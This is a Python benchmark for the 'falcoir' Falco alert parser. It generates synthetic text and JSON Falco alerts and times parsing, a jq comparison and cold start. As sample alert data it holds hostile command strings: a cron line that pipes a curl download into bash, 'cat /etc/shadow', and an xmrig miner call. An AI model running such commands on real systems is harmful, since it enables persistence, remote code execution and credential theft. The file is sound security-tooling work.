"""Benchmark of the Falco alert parser and of ``falcoir parse``'s cold start.

What it measures:

1. Parse throughput on a generated mixed Falco log (default 1,000,000 lines): half
   text alerts in every style and wrapper, half one-line JSON documents (Falco and
   Falcosidekick), with a sprinkle of Falco's own log lines. Lines per second for the
   text half, the JSON half and the whole log, with the parser streaming the file
   through ``iter_parse`` (every alert fully normalised into an ``Alert``).
2. The ratio against ``jq -c .`` over the same JSON half (jq only re-serialises; we
   also normalise). Install jq first: ``apt-get install -y jq`` (Debian/Ubuntu).
3. The cold start of ``python -m falcoir parse <one line> -o json`` against
   ``python -c pass`` and ``kubectl version --client`` (best of N runs, wall clock),
   and the import-time breakdown from ``python -X importtime``.

Run from the repository root::

    PYTHONPATH=. python benchmarks/parse_bench.py            # 1,000,000 lines
    PYTHONPATH=. python benchmarks/parse_bench.py --lines 100000 --json

CPU time (``time.process_time`` for the parser, ``RUSAGE_CHILDREN`` for jq) is reported
next to wall time: on a shared machine CPU time is the fairer comparison.

To see where the time goes, ``--profile`` runs the parser over the text half under
cProfile and prints the costliest functions (nothing else is measured then)::

    PYTHONPATH=. python benchmarks/parse_bench.py --lines 100000 --profile

Text lines go through the C accelerator (``falcoir.core.parse._speedups``) when it was
built; the first line printed says which path ran. ``--pure`` (or the environment
variable ``FALCOIR_PURE_PARSER=1``) measures the pure-Python parser instead.
"""

from __future__ import annotations

import argparse
import json
import os
import random
import resource
import shutil
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable
from pathlib import Path

REPO = Path(__file__).resolve().parents[1]
if str(REPO) not in sys.path:
    sys.path.insert(0, str(REPO))

from falcoir.core.alert import Alert  # noqa: E402
from falcoir.core.parse import accel, iter_parse  # noqa: E402

GOAL_TEXT_LINES_PER_S = 200_000
GOAL_COLD_START_S = 0.25
ONE_LINE = (
    "08:30:00.123 - Critical - Suspicious crypto miner process (name=xmrig, "
    "cmdline=/tmp/xmrig -o pool.example.com:3333 -u wallet_address -p x, pid=12345)"
)

PRIOS = ("Critical", "Warning", "Notice", "Error", "Informational")
COMMANDS = (
    "/tmp/xmrig -o stratum+tcp://pool.example.com:3333 -u wallet_address -p x",
    "sh -c echo '* * * * * curl -s http://a:8220/x.jpg | bash -s' >> /etc/crontabs/root",
    "cat /etc/shadow",
    "mount -t tmpfs -o size=3900100608 tmpfs /var/lib/kubelet/pods/x/volumes",
    'sh -c TERM="xterm-256color" /bin/sh',
    "bash -il",
)
WRAPPERS = (
    "",
    "",
    "falco_1            | ",
    "Mar  2 10:14:03 node-1 falco[1187]: ",
    "2026-03-02T10:14:03.413001+00:00 node-1 falco: ",
    "2026-03-02T10:14:03.413551207Z ",
    "[pod/falco-7kq2m/falco] 2026-03-02T10:14:03.413551207Z ",
    "falco-7kq2m falco ",
)
FALCO_LOG = (
    "Mon Mar  2 10:10:01 2026: Loading rules from file /etc/falco/falco_rules.yaml",
    "2026-03-02T10:15:00+0000: SIGINT received, exiting...",
    "Events detected: 2",
    "   CRITICAL: 1",
)


def _hms(rng: random.Random) -> str:
    return (
        f"{rng.randrange(24):02d}:{rng.randrange(60):02d}:{rng.randrange(60):02d}."
        f"{rng.randrange(10**9):09d}"
    )


def _cid(rng: random.Random) -> str:
    return f"{rng.getrandbits(48):012x}"


def text_line(rng: random.Random) -> str:
    prio = rng.choice(PRIOS)
    cmd = rng.choice(COMMANDS)
    cid = _cid(rng)
    pid = rng.randrange(1, 4_194_304)
    style = rng.randrange(4)
    if style == 0:  # 0.41+ pipe style, container plugin fields
        body = (
            f"Executing binary not part of base image | proc_exe=/tmp/xmrig proc_sname=sh "
            f"gparent=containerd-shim proc_cwd=/tmp/ evt_type=execve user=root user_uid=0 "
            f"user_loginuid=-1 process=xmrig proc_exepath=/tmp/xmrig parent=sh command={cmd} "
            f"terminal=0 exe_flags=EXE_WRITABLE|EXE_UPPER_LAYER container_id={cid} "
            f"container_name=miner container_image_repository=docker.io/library/ubuntu "
            f"container_image_tag=latest k8s_pod_name=miner-6d5f8c7b9-x2k4q k8s_ns_name=default"
        )
        time_s = f"2026-03-02T{_hms(rng)}+0000"
    elif style == 1:  # up to 0.40 paren style with -pk
        body = (
            f"A shell was spawned in a container with an attached terminal (user=root "
            f"user_loginuid=-1 k8s.ns=default k8s.pod=miner-6d5f8 container={cid} shell=sh "
            f"parent=runc cmdline={cmd} pid={pid} terminal=34816 container_id={cid} "
            f"image=docker.io/library/ubuntu) k8s.ns=default k8s.pod=miner-6d5f8 container={cid}"
        )
        time_s = _hms(rng)
    elif style == 2:  # stock 0.36-0.40 rules with container fields
        body = (
            f"Sensitive file opened for reading by non-trusted program (file=/etc/shadow "
            f"gparent=systemd ggparent=<NA> gggparent=<NA> evt_type=openat user=root "
            f"user_uid=0 user_loginuid=-1 process=cat proc_exepath=/usr/bin/cat "
            f"parent=containerd-shim command={cmd} terminal=34816 container_id={cid} "
            f"container_image=docker.io/library/nginx container_image_tag=latest "
            f"container_name=nginx k8s_ns=default k8s_pod_name=nginx-7854ff8877-h97p4)"
        )
        time_s = _hms(rng)
    else:  # the walkthrough's rendering
        return (
            f"{_hms(rng)[:12]} - {prio} - Suspicious crypto miner process (name=xmrig, "
            f"cmdline={cmd}, pid={pid})"
        )
    return f"{rng.choice(WRAPPERS)}{time_s}: {prio} {body}"


def json_line(rng: random.Random) -> str:
    cid = _cid(rng)
    pid = rng.randrange(1, 4_194_304)
    hms = _hms(rng)
    cmd = rng.choice(COMMANDS)
    doc: dict[str, object] = {
        "hostname": "node-1",
        "output": (
            f"{hms}: Notice A shell was spawned in a container with an attached terminal | "
            f"evt_type=execve user=root user_uid=0 user_loginuid=-1 process=sh "
            f"proc_exepath=/usr/bin/dash parent=containerd-shim command={cmd} terminal=34816 "
            f"exe_flags=EXE_WRITABLE|EXE_LOWER_LAYER container_id={cid} container_name=web "
            f"container_image_repository=docker.io/library/nginx container_image_tag=latest "
            f"k8s_pod_name=web-7d59548d75-wh44s k8s_ns_name=default"
        ),
        "output_fields": {
            "container.id": cid,
            "container.image.repository": "docker.io/library/nginx",
            "container.image.tag": "latest",
            "container.name": "web",
            "evt.arg.flags": "EXE_WRITABLE|EXE_LOWER_LAYER",
            "evt.time": 1763990696428114287 + pid,
            "evt.type": "execve",
            "k8s.ns.name": "default",
            "k8s.pod.name": "web-7d59548d75-wh44s",
            "proc.cmdline": cmd,
            "proc.exepath": "/usr/bin/dash",
            "proc.name": "sh",
            "proc.pid": pid,
            "proc.pname": "containerd-shim",
            "proc.tty": 34816,
            "user.loginuid": -1,
            "user.name": "root",
            "user.uid": 0,
        },
        "priority": "Notice",
        "rule": "Terminal shell in container",
        "source": "syscall",
        "tags": ["T1059", "container", "maturity_stable", "mitre_execution", "shell"],
        "time": f"2026-03-02T{hms}Z",
    }
    if rng.randrange(4) == 0:  # Falcosidekick
        doc = {"uuid": f"{rng.getrandbits(128):032x}", **doc}
    return json.dumps(doc, separators=(",", ":"))


def generate(path_all: Path, path_text: Path, path_json: Path, lines: int, seed: int) -> None:
    rng = random.Random(seed)
    with (
        path_all.open("w") as f_all,
        path_text.open("w") as f_text,
        path_json.open("w") as f_json,
    ):
        for i in range(lines):
            if i % 50 == 49:
                line = FALCO_LOG[i % len(FALCO_LOG)]
                f_text.write(line + "\n")
            elif i % 2:
                line = json_line(rng)
                f_json.write(line + "\n")
            else:
                line = text_line(rng)
                f_text.write(line + "\n")
            f_all.write(line + "\n")


def parse_file(path: Path) -> tuple[int, int, float, float]:
    """(lines, alerts, wall s, cpu s) for streaming ``path`` through iter_parse."""
    alerts = lines = 0
    t0, c0 = time.perf_counter(), time.process_time()
    with path.open(encoding="utf-8") as fh:
        for item in iter_parse(fh):
            lines += 1
            if isinstance(item, Alert):
                alerts += 1
    return lines, alerts, time.perf_counter() - t0, time.process_time() - c0


def run_jq(path: Path) -> tuple[float, float] | None:
    jq = shutil.which("jq")
    if jq is None:
        return None
    before = resource.getrusage(resource.RUSAGE_CHILDREN)
    t0 = time.perf_counter()
    with open(os.devnull, "w") as devnull:
        subprocess.run([jq, "-c", ".", str(path)], stdout=devnull, check=True)
    wall = time.perf_counter() - t0
    after = resource.getrusage(resource.RUSAGE_CHILDREN)
    cpu = (after.ru_utime - before.ru_utime) + (after.ru_stime - before.ru_stime)
    return wall, cpu


def best_of(runs: int, argv: list[str], env: dict[str, str]) -> float | None:
    best = None
    for _ in range(runs):
        t0 = time.perf_counter()
        try:
            subprocess.run(argv, env=env, capture_output=True, check=True, timeout=60)
        except (OSError, subprocess.SubprocessError):
            return None
        dt = time.perf_counter() - t0
        best = dt if best is None else min(best, dt)
    return best


def import_breakdown(env: dict[str, str]) -> dict[str, float]:
    """Cumulative import ms of the heaviest top-level imports of ``falcoir parse``."""
    out = subprocess.run(
        [sys.executable, "-X", "importtime", "-m", "falcoir", "parse", ONE_LINE, "-o", "json"],
        env=env,
        capture_output=True,
        text=True,
        timeout=60,
    )
    tops: dict[str, float] = {}
    total = 0.0
    for line in out.stderr.splitlines():
        if not line.startswith("import time:") or "|" not in line:
            continue
        parts = line.split("|")
        try:
            self_us, cum_us = int(parts[0].split(":")[1]), int(parts[1])
        except ValueError:
            continue
        total += self_us
        name = parts[2]
        if len(name) - len(name.lstrip()) <= 1:  # a top-level import
            tops[name.strip()] = cum_us / 1000
    heavy = dict(sorted(tops.items(), key=lambda kv: -kv[1])[:8])
    heavy["(all imports)"] = total / 1000
    return heavy


def profile(lines: int, seed: int, top: int = 20) -> int:
    """cProfile of parsing the text half of a generated log, costliest functions first."""
    import cProfile
    import pstats

    with tempfile.TemporaryDirectory(prefix="falcoir-bench-") as tmp:
        base = Path(tmp)
        generate(base / "mixed.log", base / "text.log", base / "json.log", lines, seed)
        prof = cProfile.Profile()
        prof.runcall(parse_file, base / "text.log")
    pstats.Stats(prof).sort_stats("tottime").print_stats(top)
    return 0


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0] if __doc__ else None)
    ap.add_argument("--lines", type=int, default=1_000_000)
    ap.add_argument("--seed", type=int, default=20260302)
    ap.add_argument("--runs", type=int, default=15, help="cold-start runs (best of)")
    ap.add_argument("--json", action="store_true", help="print the results as JSON")
    ap.add_argument("--keep", type=Path, help="write the generated logs into this directory")
    ap.add_argument("--profile", action="store_true", help="profile parsing the text half")
    ap.add_argument(
        "--pure", action="store_true", help="use the pure-Python parser (no C accelerator)"
    )
    args = ap.parse_args(argv)
    saved = accel.TEXT_ALERT
    if args.pure:
        accel.TEXT_ALERT = None
    try:
        return _run(args)
    finally:
        accel.TEXT_ALERT = saved


def _run(args: argparse.Namespace) -> int:
    path = accel.active()
    if args.profile:
        print(f"parser path: {path}")
        return profile(args.lines, args.seed)

    results: dict[str, object] = {"lines": args.lines, "parser_path": path}
    log: Callable[[str], None] = (lambda s: None) if args.json else print
    log(
        f"parser path: {path}"
        + (
            " (C accelerator falcoir.core.parse._speedups)"
            if path == "accelerated"
            else " (pure Python)"
        )
    )
    with tempfile.TemporaryDirectory(prefix="falcoir-bench-") as tmp:
        base = args.keep or Path(tmp)
        base.mkdir(parents=True, exist_ok=True)
        p_all, p_text, p_json = base / "mixed.log", base / "text.log", base / "json.log"
        t0 = time.perf_counter()
        generate(p_all, p_text, p_json, args.lines, args.seed)
        log(f"generated {args.lines:,} lines in {time.perf_counter() - t0:.1f}s ({base})")

        for name, path in (("text", p_text), ("json", p_json), ("mixed", p_all)):
            lines, alerts, wall, cpu = parse_file(path)
            results[name] = {
                "lines": lines,
                "alerts": alerts,
                "wall_s": round(wall, 3),
                "cpu_s": round(cpu, 3),
                "lines_per_s_wall": round(lines / wall),
                "lines_per_s_cpu": round(lines / cpu),
                "alerts_per_s_cpu": round(alerts / cpu),
            }
            log(
                f"{name:5}: {lines:>9,} lines, {alerts:>9,} alerts: {lines / cpu:>9,.0f} "
                f"lines/s CPU ({lines / wall:,.0f} wall), {alerts / cpu:,.0f} alerts/s CPU"
            )
        jq = run_jq(p_json)
        json_res = results["json"]
        assert isinstance(json_res, dict)
        if jq is None:
            log("jq not found: apt-get install -y jq")
        else:
            jq_wall, jq_cpu = jq
            n = json_res["lines"]
            results["jq"] = {
                "wall_s": round(jq_wall, 3),
                "cpu_s": round(jq_cpu, 3),
                "lines_per_s_wall": round(n / jq_wall),
                "lines_per_s_cpu": round(n / jq_cpu),
                "ratio_cpu": round(jq_cpu / json_res["cpu_s"], 2),
                "ratio_wall": round(jq_wall / json_res["wall_s"], 2),
            }
            log(
                f"jq -c .: {n / jq_cpu:,.0f} lines/s CPU ({n / jq_wall:,.0f} wall); falcoir is "
                f"{jq_cpu / json_res['cpu_s']:.2f}x jq's speed on the JSON half "
                f"(CPU; {jq_wall / json_res['wall_s']:.2f}x wall)"
            )

    env = dict(os.environ)
    if path == "pure":
        env["FALCOIR_PURE_PARSER"] = "1"
    env["PYTHONPATH"] = str(REPO) + os.pathsep + env.get("PYTHONPATH", "")
    cold = {
        "falcoir parse": best_of(
            args.runs, [sys.executable, "-m", "falcoir", "parse", ONE_LINE, "-o", "json"], env
        ),
        "python -c pass": best_of(args.runs, [sys.executable, "-c", "pass"], env),
        "kubectl version --client": best_of(
            args.runs, [shutil.which("kubectl") or "kubectl", "version", "--client"], env
        ),
    }
    results["cold_start_s"] = {k: (round(v, 4) if v is not None else None) for k, v in cold.items()}
    ours = cold["falcoir parse"]
    results["cold_start_ratio"] = {
        k: (round(ours / v, 2) if ours is not None and v else None)
        for k, v in cold.items()
        if k != "falcoir parse"
    }
    for k, v in cold.items():
        ratio = ""
        if k != "falcoir parse" and ours is not None and v:
            ratio = f"  (falcoir parse takes {ours / v:.2f}x this)"
        log(f"cold start {k:26}: " + (f"{v * 1000:6.0f} ms" if v is not None else "n/a") + ratio)
    imports = import_breakdown(env)
    results["imports_ms"] = imports
    log("imports (cumulative ms): " + ", ".join(f"{k} {v:.0f}" for k, v in imports.items()))
    text_res = results["text"]
    assert isinstance(text_res, dict)
    results["goals"] = {
        "text_lines_per_s": GOAL_TEXT_LINES_PER_S,
        "text_met": text_res["lines_per_s_cpu"] >= GOAL_TEXT_LINES_PER_S,
        "faster_than_jq": bool(jq and jq[1] > json_res["cpu_s"]),
        "cold_start_s": GOAL_COLD_START_S,
        "cold_start_met": bool(cold["falcoir parse"] and cold["falcoir parse"] < GOAL_COLD_START_S),
    }
    if args.json:
        print(json.dumps(results, indent=2))
    else:
        print("goals:", json.dumps(results["goals"]))
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
